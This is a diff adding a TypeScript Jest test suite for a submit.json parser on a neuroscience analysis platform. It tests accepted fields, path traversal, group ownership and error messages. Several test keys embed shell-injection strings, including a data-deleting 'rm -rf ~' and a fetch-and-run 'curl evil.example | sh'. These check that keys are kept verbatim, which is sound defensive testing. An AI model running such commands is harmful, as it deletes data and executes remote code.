@@ -1,0 +1,614 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import * as path from 'node:path';
+
+import { parseSubmission, type SubmissionResult } from '../../lib/submission/parse-submission';
+import { renderProblems } from '../../lib/submission/problems-text';
+import { testAnalysis } from './analysis';
+
+const analysis = testAnalysis();
+const KEY = 'lab/submissions/run1submit.json';
+const FIXTURES = path.join(__dirname, '..', 'fixtures', 'neurocaas', 'submissions');
+
+const VALID = {
+  dataname: 'lab/inputs/session1.zip',
+  configname: 'lab/configs/config.yaml',
+  timestamp: '04_29_20',
+};
+
+/** A submit.json body: the valid one with some fields replaced (undefined removes a field). */
+const submit = (changes: Record<string, unknown> = {}): string => {
+  const body: Record<string, unknown> = { ...VALID, ...changes };
+  for (const [field, value] of Object.entries(changes)) if (value === undefined) delete body[field];
+  return JSON.stringify(body);
+};
+
+const parse = (body: Uint8Array | string, key = KEY, config = analysis): SubmissionResult =>
+  parseSubmission({ body, key, analysis: config });
+
+const accepted = (result: SubmissionResult) => {
+  if (!result.ok) throw new Error(`expected acceptance, got:\n${JSON.stringify(result.problems, null, 2)}`);
+  return result;
+};
+
+const refused = (result: SubmissionResult) => {
+  if (result.ok) throw new Error(`expected a refusal, got ${JSON.stringify(result.submission)}`);
+  return result;
+};
+
+describe('NeuroCAAS submissions (real fixtures)', () => {
+  const files = readdirSync(FIXTURES).filter((f) => f.endsWith('.json'));
+
+  test('the fixtures are present', () => {
+    expect(files.sort()).toEqual([
+      'caiman_web_stack_test_submit.json',
+      'submissions_condition_0_0submit.json',
+      'submissions_condition_2_3submit.json',
+    ]);
+  });
+
+  test.each(files)('%s is accepted', (file) => {
+    const body = readFileSync(path.join(FIXTURES, file));
+    const raw = JSON.parse(body.toString('utf8')) as {
+      dataname: string;
+      configname: string;
+      timestamp: string;
+    };
+    const group = raw.dataname.split('/')[0];
+    const key = `${group}/submissions/${file}`;
+    const { submission, warnings } = accepted(parse(body, key));
+    expect(submission).toEqual({
+      group,
+      jobId: raw.timestamp,
+      datasetKeys: [raw.dataname],
+      configKey: raw.configname,
+      instanceType: 'm5.xlarge',
+      submissionKey: key,
+    });
+    if ('exitcode' in raw)
+      expect(warnings).toEqual(['submit.json key "exitcode" is not used here and was ignored']);
+  });
+
+  test('a folder dataset from the fixtures keeps its trailing slash', () => {
+    const body = readFileSync(path.join(FIXTURES, 'submissions_condition_2_3submit.json'));
+    const { submission } = accepted(parse(body, 'traviscipermagroup/submissions/condition_2_3submit.json'));
+    expect(submission.datasetKeys).toEqual(['traviscipermagroup/inputs/datasets/']);
+    expect(submission.jobId).toBe('16:52:06.841212condition_2_3');
+  });
+});
+
+describe('accepted submissions', () => {
+  test('the plain form', () => {
+    expect(accepted(parse(submit())).submission).toEqual({
+      group: 'lab',
+      jobId: '04_29_20',
+      datasetKeys: ['lab/inputs/session1.zip'],
+      configKey: 'lab/configs/config.yaml',
+      instanceType: 'm5.xlarge',
+      submissionKey: KEY,
+    });
+  });
+
+  test('a timestamp with ":" and "." (NeuroCAAS form) and inner spaces', () => {
+    expect(accepted(parse(submit({ timestamp: '16:52:06.836494condition_2_3' }))).submission.jobId).toBe(
+      '16:52:06.836494condition_2_3',
+    );
+    expect(accepted(parse(submit({ timestamp: '2020-04-29 16:52:06' }))).submission.jobId).toBe(
+      '2020-04-29 16:52:06',
+    );
+  });
+
+  test('a numeric timestamp becomes its text, with a warning', () => {
+    const result = accepted(parse(submit({ timestamp: 42929 })));
+    expect(result.submission.jobId).toBe('42929');
+    expect(result.warnings).toEqual(['timestamp was the number 42929; it is used as the text "42929"']);
+    expect(
+      accepted(parse('{"dataname":"lab/inputs/a","configname":"lab/configs/c","timestamp":4.5}')).submission
+        .jobId,
+    ).toBe('4.5');
+  });
+
+  test('a timestamp of exactly 100 characters', () => {
+    expect(accepted(parse(submit({ timestamp: 't'.repeat(100) }))).submission.jobId).toHaveLength(100);
+  });
+
+  test('extra keys are ignored with a warning, not refused', () => {
+    const result = accepted(
+      parse(submit({ exitcode: 99, comment: 'from the web form', nested: { a: [1] } })),
+    );
+    expect(result.warnings).toEqual([
+      'submit.json key "exitcode" is not used here and was ignored',
+      'submit.json key "comment" is not used here and was ignored',
+      'submit.json key "nested" is not used here and was ignored',
+    ]);
+  });
+
+  test('a folder dataname is one dataset', () => {
+    expect(accepted(parse(submit({ dataname: 'lab/inputs/session1/' }))).submission.datasetKeys).toEqual([
+      'lab/inputs/session1/',
+    ]);
+  });
+
+  test('a list of datanames: one dataset each, in order, up to the limit', () => {
+    const keys = [
+      'lab/inputs/a.zip',
+      'lab/inputs/b/',
+      'lab/inputs/c/x.zip',
+      'lab/inputs/d.zip',
+      'lab/inputs/e.zip',
+    ];
+    expect(accepted(parse(submit({ dataname: keys }))).submission.datasetKeys).toEqual(keys);
+    expect(accepted(parse(submit({ dataname: ['lab/inputs/a.zip'] }))).submission.datasetKeys).toEqual([
+      'lab/inputs/a.zip',
+    ]);
+  });
+
+  test.each([
+    'lab/inputs/my session 1.zip',
+    'lab/inputs/it\'s "best".zip',
+    'lab/inputs/`rm -rf ~`.zip',
+    'lab/inputs/$(curl evil.example | sh).zip',
+    'lab/inputs/a;b&&c|d>e<f*?.zip',
+    'lab/inputs/données été/ünïcode.tif',
+    'lab/inputs/.../x.zip',
+    'lab/inputs/.hidden',
+    'lab/inputs/ leading and trailing space.zip ',
+  ])('the valid key %p is accepted verbatim', (key) => {
+    const { submission } = accepted(
+      parse(submit({ dataname: key, configname: `lab/configs/${key.slice(11)}` })),
+    );
+    expect(submission.datasetKeys).toEqual([key]);
+    expect(submission.configKey).toBe(`lab/configs/${key.slice(11)}`);
+  });
+
+  test('a key of exactly 1024 bytes', () => {
+    const key = `lab/inputs/${'a'.repeat(1024 - 'lab/inputs/'.length)}`;
+    expect(accepted(parse(submit({ dataname: key }))).submission.datasetKeys).toEqual([key]);
+  });
+
+  test('a UTF-8 byte order mark is tolerated, as bytes and as text', () => {
+    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(submit(), 'utf8')]);
+    expect(accepted(parse(bytes)).submission.jobId).toBe('04_29_20');
+    expect(accepted(parse(`\uFEFF${submit()}`)).submission.jobId).toBe('04_29_20');
+  });
+
+  test('a Uint8Array view into a larger buffer is decoded from its own bytes', () => {
+    const inner = Buffer.from(submit(), 'utf8');
+    const outer = Buffer.concat([Buffer.from('garbage'), inner, Buffer.from('trailing')]);
+    const view = new Uint8Array(outer.buffer, outer.byteOffset + 7, inner.length);
+    expect(accepted(parse(view)).submission.group).toBe('lab');
+  });
+
+  test('instance_type: an allowed one is used; without one the EC2 default; for Batch none', () => {
+    expect(accepted(parse(submit({ instance_type: 'p3.2xlarge' }))).submission.instanceType).toBe(
+      'p3.2xlarge',
+    );
+    expect(accepted(parse(submit())).submission.instanceType).toBe('m5.xlarge');
+    const batch = testAnalysis({ runtime: 'batch', ec2: undefined });
+    expect(accepted(parse(submit(), KEY, batch)).submission.instanceType).toBeUndefined();
+  });
+
+  test('a submission in a subfolder of submissions/', () => {
+    expect(accepted(parse(submit(), 'lab/submissions/2024/run1submit.json')).submission.group).toBe('lab');
+  });
+});
+
+interface Case {
+  readonly name: string;
+  readonly body: Uint8Array | string;
+  readonly key?: string;
+  readonly field: string;
+  readonly says: readonly string[];
+}
+
+const manyDatasets = Array.from({ length: 6 }, (_, i) => `lab/inputs/d${i}.zip`);
+const invalidUtf8 = Buffer.concat([
+  Buffer.from('{"dataname": "lab/inputs/'),
+  Buffer.from([0xc3, 0x28]),
+  Buffer.from('"}'),
+]);
+const oversize = submit({ comment: 'x'.repeat(1024 * 1024) });
+
+const CASES: readonly Case[] = [
+  { name: 'not JSON', body: 'dataname: lab/inputs/x', field: 'submit.json', says: ['not valid JSON'] },
+  {
+    name: 'JSON with a missing comma names the line',
+    body: '{\n  "dataname": "lab/inputs/x.zip"\n  "configname": "lab/configs/c.yaml"\n}',
+    field: 'submit.json',
+    says: ['not valid JSON', 'line 3'],
+  },
+  {
+    name: 'cut-off JSON',
+    body: '{"dataname": "lab/inputs/x.zip", ',
+    field: 'submit.json',
+    says: ['ends too early'],
+  },
+  {
+    name: 'JSON without its closing brace',
+    body: '{"dataname": "x"\n',
+    field: 'submit.json',
+    says: ['ends too early, at line 1'],
+  },
+  { name: 'empty body', body: '', field: 'submit.json', says: ['submit.json is empty'] },
+  { name: 'blank body', body: ' \n\t ', field: 'submit.json', says: ['submit.json is empty'] },
+  {
+    name: 'array body',
+    body: '[{"dataname": "lab/inputs/x"}]',
+    field: 'submit.json',
+    says: ['holds a list of 1 item'],
+  },
+  { name: 'null body', body: 'null', field: 'submit.json', says: ['holds null'] },
+  {
+    name: 'string body',
+    body: '"lab/inputs/x.zip"',
+    field: 'submit.json',
+    says: ['holds the text "lab/inputs/x.zip"'],
+  },
+  {
+    name: 'number body',
+    body: '42',
+    field: 'submit.json',
+    says: ['holds the number 42', 'one object in braces'],
+  },
+  { name: 'invalid UTF-8', body: invalidUtf8, field: 'submit.json', says: ['not UTF-8 text'] },
+  {
+    name: 'more than 1 MiB',
+    body: oversize,
+    field: 'submit.json',
+    says: ['1.0 MiB', 'the limit is 1.0 MiB'],
+  },
+  {
+    name: 'missing dataname',
+    body: submit({ dataname: undefined }),
+    field: 'dataname',
+    says: ['has no "dataname"'],
+  },
+  { name: 'empty dataname list', body: submit({ dataname: [] }), field: 'dataname', says: ['empty list'] },
+  {
+    name: 'dataname a number',
+    body: submit({ dataname: 3 }),
+    field: 'dataname',
+    says: ['dataname must be a key (text) like "lab/inputs/session1.zip"', 'got the number 3'],
+  },
+  {
+    name: 'dataname an object',
+    body: submit({ dataname: { key: 'lab/inputs/x' } }),
+    field: 'dataname',
+    says: ['got an object'],
+  },
+  {
+    name: 'a number inside the dataname list',
+    body: submit({ dataname: ['lab/inputs/a.zip', 'lab/inputs/b.zip', 3] }),
+    field: 'dataname[2]',
+    says: ['dataname[2] must be a key (text) like "lab/inputs/session1.zip", got the number 3'],
+  },
+  { name: 'empty dataname', body: submit({ dataname: '' }), field: 'dataname', says: ['dataname is empty'] },
+  {
+    name: 'dataname ../x',
+    body: submit({ dataname: '../x' }),
+    field: 'dataname',
+    says: ['contains a ".." folder'],
+  },
+  {
+    name: 'dataname stepping out and into another group',
+    body: submit({ dataname: 'lab/../lab2/inputs/x' }),
+    field: 'dataname',
+    says: ['"lab/../lab2/inputs/x" contains a ".." folder'],
+  },
+  {
+    name: 'dataname with a "." segment',
+    body: submit({ dataname: 'lab/inputs/./x.zip' }),
+    field: 'dataname',
+    says: ['contains a "." folder'],
+  },
+  {
+    name: 'dataname of another group (lab2 is not lab)',
+    body: submit({ dataname: 'lab2/inputs/x' }),
+    field: 'dataname',
+    says: [
+      'dataname "lab2/inputs/x" is in group "lab2", but this submission was uploaded by group "lab"',
+      'lab/inputs/',
+    ],
+  },
+  {
+    name: 'dataname of a group that only shares a prefix',
+    body: submit({ dataname: ['lab/inputs/ok.zip', 'laboratory/inputs/x'] }),
+    field: 'dataname[1]',
+    says: ['is in group "laboratory"'],
+  },
+  {
+    name: 'absolute dataname',
+    body: submit({ dataname: '/lab/inputs/x' }),
+    field: 'dataname',
+    says: ['starts with "/"', 'e.g. "lab/inputs/x"'],
+  },
+  {
+    name: 's3:// dataname',
+    body: submit({ dataname: 's3://bucket/lab/inputs/x' }),
+    field: 'dataname',
+    says: ['is a URL', "plain keys in this analysis's bucket", 'write just "lab/inputs/x"'],
+  },
+  {
+    name: 'https dataname',
+    body: submit({ dataname: 'https://example.org/data.zip' }),
+    field: 'dataname',
+    says: ['is a URL', 'copied under lab/inputs/'],
+  },
+  {
+    name: 'empty segment',
+    body: submit({ dataname: 'lab//inputs/x' }),
+    field: 'dataname',
+    says: ['empty folder name ("//")'],
+  },
+  {
+    name: 'backslash',
+    body: submit({ dataname: 'lab\\inputs\\x.zip' }),
+    field: 'dataname',
+    says: ['backslash', '"lab/inputs/x.zip"'],
+  },
+  {
+    name: 'control character',
+    body: submit({ dataname: 'lab/inputs/a\u0007.zip' }),
+    field: 'dataname',
+    says: ['the control character U+0007'],
+  },
+  {
+    name: 'line break in a key',
+    body: submit({ dataname: 'lab/inputs/a\nb.zip' }),
+    field: 'dataname',
+    says: ['"lab/inputs/a\\nb.zip" contains a line break'],
+  },
+  {
+    name: 'broken character in a key',
+    body: '{"dataname": "lab/inputs/\\ud800.zip", "configname": "lab/configs/c.yaml", "timestamp": "t1"}',
+    field: 'dataname',
+    says: ['broken character'],
+  },
+  {
+    name: 'key longer than 1024 bytes',
+    body: submit({ dataname: `lab/inputs/${'é'.repeat(507)}` }),
+    field: 'dataname',
+    says: ['1025 bytes long', 'at most 1024 bytes'],
+  },
+  {
+    name: 'key outside any folder',
+    body: submit({ dataname: 'session1.zip' }),
+    field: 'dataname',
+    says: ['is not inside any folder', '"lab/inputs/session1.zip"'],
+  },
+  {
+    name: 'dataname outside inputs/',
+    body: submit({ dataname: 'lab/results/job__mock_1/process_results/x.npy' }),
+    field: 'dataname',
+    says: ['is not in lab/inputs/'],
+  },
+  {
+    name: 'dataname naming all of inputs/',
+    body: submit({ dataname: 'lab/inputs/' }),
+    field: 'dataname',
+    says: ['names the whole lab/inputs/ folder'],
+  },
+  {
+    name: 'configname a folder',
+    body: submit({ configname: 'lab/configs/' }),
+    field: 'configname',
+    says: ['ends in "/", which names a folder'],
+  },
+  {
+    name: 'configname of another group',
+    body: submit({ configname: 'lab2/configs/c.yaml' }),
+    field: 'configname',
+    says: ['configname "lab2/configs/c.yaml" is in group "lab2"', 'upload the config under lab/configs/'],
+  },
+  {
+    name: 'configname outside configs/',
+    body: submit({ configname: 'lab/inputs/config.yaml' }),
+    field: 'configname',
+    says: ['is not in lab/configs/'],
+  },
+  {
+    name: 'configname null',
+    body: submit({ configname: null }),
+    field: 'configname',
+    says: ['configname must be a key (text) like "lab/configs/config.yaml", got null'],
+  },
+  {
+    name: 'missing configname',
+    body: submit({ configname: undefined }),
+    field: 'configname',
+    says: ['has no "configname"'],
+  },
+  {
+    name: 'missing timestamp',
+    body: submit({ timestamp: undefined }),
+    field: 'timestamp',
+    says: ['has no "timestamp"'],
+  },
+  {
+    name: 'timestamp true',
+    body: submit({ timestamp: true }),
+    field: 'timestamp',
+    says: ['got the value true'],
+  },
+  {
+    name: 'timestamp Infinity',
+    body: submit().replace('"04_29_20"', '1e400'),
+    field: 'timestamp',
+    says: ['the number Infinity'],
+  },
+  {
+    name: 'empty timestamp',
+    body: submit({ timestamp: '' }),
+    field: 'timestamp',
+    says: ['timestamp is empty'],
+  },
+  { name: 'blank timestamp', body: submit({ timestamp: '   ' }), field: 'timestamp', says: ['only spaces'] },
+  {
+    name: 'timestamp with /',
+    body: submit({ timestamp: '04/29/20' }),
+    field: 'timestamp',
+    says: ['contains "/"', 'one folder name'],
+  },
+  { name: 'timestamp ..', body: submit({ timestamp: '..' }), field: 'timestamp', says: ['contains ".."'] },
+  {
+    name: 'timestamp too long',
+    body: submit({ timestamp: 'x'.repeat(101) }),
+    field: 'timestamp',
+    says: ['101 characters long', 'at most 100'],
+  },
+  {
+    name: 'timestamp with a line break',
+    body: submit({ timestamp: 'run\n1' }),
+    field: 'timestamp',
+    says: ['a line break'],
+  },
+  {
+    name: 'timestamp with a trailing space',
+    body: submit({ timestamp: 'run1 ' }),
+    field: 'timestamp',
+    says: ['space'],
+  },
+  {
+    name: 'instance_type not allowed',
+    body: submit({ instance_type: 'x1e.32xlarge' }),
+    field: 'instance_type',
+    says: ['"x1e.32xlarge" is not offered', 'choose one of m5.xlarge, p3.2xlarge', 'default (m5.xlarge)'],
+  },
+  {
+    name: 'instance_type a number',
+    body: submit({ instance_type: 4 }),
+    field: 'instance_type',
+    says: ['instance_type must be text', 'm5.xlarge, p3.2xlarge', 'got the number 4'],
+  },
+  {
+    name: 'resultpath present',
+    body: submit({ resultpath: 's3://otherbucket/results/' }),
+    field: 'resultpath',
+    says: ['resultpath is not accepted', 'lab/results/job__mock_04_29_20/', 'Remove "resultpath"'],
+  },
+  {
+    name: 'too many datasets',
+    body: submit({ dataname: manyDatasets }),
+    field: 'dataname',
+    says: ['lists 6 datasets', 'at most 5'],
+  },
+  {
+    name: 'duplicate datanames',
+    body: submit({ dataname: ['lab/inputs/a.zip', 'lab/inputs/a.zip'] }),
+    field: 'dataname[1]',
+    says: ['"lab/inputs/a.zip" repeats dataname[0]'],
+  },
+  {
+    name: 'submission key of an unknown group',
+    body: submit(),
+    key: 'strangers/submissions/run1submit.json',
+    field: 'group',
+    says: ['group "strangers"', 'is not a group of analysis "mock"'],
+  },
+  {
+    name: 'submission key of a group that may not submit',
+    body: submit({ dataname: 'viewers/inputs/x', configname: 'viewers/configs/c.yaml' }),
+    key: 'viewers/submissions/run1submit.json',
+    field: 'group',
+    says: ['group "viewers" may not submit jobs', 'UserInput'],
+  },
+  {
+    name: 'submission key with no group',
+    body: submit(),
+    key: 'submit.json',
+    field: 'group',
+    says: ['not inside a group'],
+  },
+  {
+    name: 'submission key outside submissions/',
+    body: submit(),
+    key: 'lab/inputs/submit.json',
+    field: 'submission key',
+    says: ['submissions go in lab/submissions/'],
+  },
+];
+
+describe('refused submissions: nothing launches, the field is named, the message says what to do', () => {
+  test('the table holds at least 30 distinct cases', () => {
+    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
+    expect(CASES.length).toBeGreaterThanOrEqual(30);
+  });
+
+  test.each(CASES)('$name', ({ body, key, field, says }) => {
+    const result = refused(parse(body, key ?? KEY));
+    const problem = result.problems.find((p) => p.field === field);
+    expect(problem).toBeDefined();
+    for (const words of says) expect(problem?.message).toContain(words);
+    for (const p of result.problems) {
+      expect(p.message).not.toMatch(/Invalid input|expected string|received|\n\s+at |Error:/);
+    }
+    const text = renderProblems(key ?? KEY, result.problems);
+    expect(text).toContain('was not accepted');
+    expect(text).toContain('Nothing was launched');
+  });
+});
+
+describe('every problem is reported at once', () => {
+  test('six problems in one submission', () => {
+    const body = JSON.stringify({
+      dataname: ['lab2/inputs/x.zip', 7, 'lab/inputs/ok.zip', 'lab/inputs/ok.zip'],
+      configname: 'lab/configs/',
+      timestamp: '04/29/20',
+      instance_type: 'p4d.24xlarge',
+      resultpath: 'elsewhere',
+    });
+    const result = refused(parse(body));
+    expect(result.problems.map((p) => p.field).sort()).toEqual(
+      [
+        'configname',
+        'dataname[0]',
+        'dataname[1]',
+        'dataname[3]',
+        'instance_type',
+        'resultpath',
+        'timestamp',
+      ].sort(),
+    );
+    expect(result.jobId).toBeUndefined();
+  });
+
+  test('a bad group and bad fields together', () => {
+    const result = refused(
+      parse(submit({ dataname: 'lab/inputs/x', timestamp: '' }), 'strangers/submissions/s.json'),
+    );
+    expect(result.problems.map((p) => p.field)).toEqual(['group', 'dataname', 'configname', 'timestamp']);
+    expect(result.problems[1].message).toContain(
+      'is in group "lab", but this submission was uploaded by group "strangers"',
+    );
+  });
+
+  test('a body problem still reports the group problem', () => {
+    const result = refused(parse('nope', 'viewers/submissions/s.json'));
+    expect(result.problems.map((p) => p.field)).toEqual(['group', 'submit.json']);
+  });
+});
+
+describe('jobId on refusal: where the caller writes the message', () => {
+  test('set when the timestamp is valid and the group may submit', () => {
+    expect(refused(parse(submit({ instance_type: 'nope' }))).jobId).toBe('04_29_20');
+    expect(refused(parse(submit({ dataname: 'lab2/inputs/x', timestamp: 12 }))).jobId).toBe('12');
+  });
+
+  test('absent when the timestamp is missing or unsafe', () => {
+    expect(refused(parse(submit({ timestamp: undefined, dataname: 3 }))).jobId).toBeUndefined();
+    expect(refused(parse(submit({ timestamp: '../../x' }))).jobId).toBeUndefined();
+    expect(refused(parse('not json')).jobId).toBeUndefined();
+  });
+
+  test('absent when the group may not submit (no results folder to write to)', () => {
+    expect(refused(parse(submit(), 'strangers/submissions/s.json')).jobId).toBeUndefined();
+    expect(refused(parse(submit(), 'viewers/submissions/s.json')).jobId).toBeUndefined();
+  });
+});
+
+describe('instance types when the analysis offers none', () => {
+  test('any requested instance_type is refused with the reason', () => {
+    const fixed = testAnalysis({ limits: { ...analysis.limits, allowedInstanceTypes: [] } });
+    const result = refused(parse(submit({ instance_type: 'm5.xlarge' }), KEY, fixed));
+    expect(result.problems[0].message).toContain('does not let a submission pick the instance type');
+  });
+});
